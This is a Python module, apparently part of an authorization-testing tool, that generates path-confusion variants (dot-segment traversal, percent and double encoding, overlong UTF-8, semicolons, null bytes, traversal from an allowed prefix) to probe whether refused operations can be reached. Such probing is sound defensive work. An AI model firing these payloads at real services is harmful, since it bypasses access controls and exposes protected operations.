"""Other spellings of the path of an operation that it may not use.

An enforcer and an application that read one path differently are a way around every grant. What is sent here is
written so that some parser, proxy or framework takes it for the operation; `%` and dots go out as they stand.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from inward.catalog.model import Mode
from inward.control.attack.tries.operations import MOST_OF_A_CALLEE

if TYPE_CHECKING:
    from collections.abc import Iterator

    from inward.catalog.model import Operation, Service
    from inward.control.attack.attempt import Attempt
    from inward.control.attack.intruder import Intruder


def path_tricks(intruder: Intruder) -> Iterator[Attempt]:
    """Yield calls of some refused operations of each other service, in other spellings."""
    for callee in intruder.callees:
        allowed = next((intruder.path(each) for each in intruder.granted(callee) if each.rpc is None), None)
        for operation in _targets(intruder, callee):
            path = intruder.path(operation)
            for spelling in spellings(path, allowed):
                outgoing = intruder.outgoing(callee.name, operation.method, spelling)
                what = f"{operation.method} {spelling.decode('latin-1')}"
                yield intruder.try_call("path", operation.id, what, outgoing, operation=operation)


def _targets(intruder: Intruder, callee: Service) -> list[Operation]:
    """Return what is worth it: first what only reads. What changes something is not sent where some of it may pass."""
    refused = [each for each in intruder.refused(callee) if each.rpc is None]
    reading = [each for each in refused if each.read_only]
    writing = [each for each in refused if not each.read_only]
    if intruder.safe_only or callee.mode is Mode.OBSERVE:
        writing = []
    return [*reading, *writing][:MOST_OF_A_CALLEE]


def spellings(path: str, allowed: str | None) -> list[bytes]:
    """Return what somebody may take for `path`, as bytes; some of it begins with a path that is `allowed`."""
    first = path[1:2]
    encoded = f"%{ord(first):02x}" if first else "%2f"
    inner = path[1:]
    tricks = [
        "/" + path,
        path.replace("/", "//"),
        "/." + path,
        "/%2e" + path,
        path + "/.",
        "/x/.." + path,
        "/x/%2e%2e" + path,
        "/x/..;" + path,
        "/x%2f.." + path,
        "/x%5c.." + path,
        "/x/.%00./.." + path,
        path + "/",
        path + "//",
        path + ";",
        path + ";a=b",
        "/;" + path,
        path + "%20",
        path + "%09",
        path + "%0a",
        path + "%00",
        path + "%00.json",
        path + ".json",
        path + "#",
        path + "?",
        path + "%3f",
        path + "%23",
        path.upper(),
        path.title(),
        f"/{encoded}{inner[1:]}",
        f"/%25{encoded[1:]}{inner[1:]}",
        "/" + inner.replace("/", "%2f") if "/" in inner else "/%2f" + inner,
        "/" + inner.replace("/", "%252f") if "/" in inner else "/%252f" + inner,
        "/" + inner.replace("/", "\\") if "/" in inner else "\\" + inner,
        "/%c0%af" + inner,
        "/x/%c0%ae%c0%ae" + path,
        "/%e0%80%af" + inner,
        "/%ef%bc%8f" + inner,
        "/x/%252e%252e" + path,
        "/http://localhost" + path,
        "/" + inner + "%ff",
    ]
    if allowed is not None:
        up = allowed.count("/")
        tricks += [
            allowed + "/.." * up + path,
            allowed + "/%2e%2e" * up + path,
            allowed + "%2f.." * up + path,
            allowed + "/..;" * up + path,
            allowed + "%5c.." * up + path,
            allowed + "?" + path,
            allowed + "%3f/.." + path,
            allowed + "#/.." + path,
            allowed + path,
        ]
    return [each.encode() for each in dict.fromkeys(tricks) if each != path]
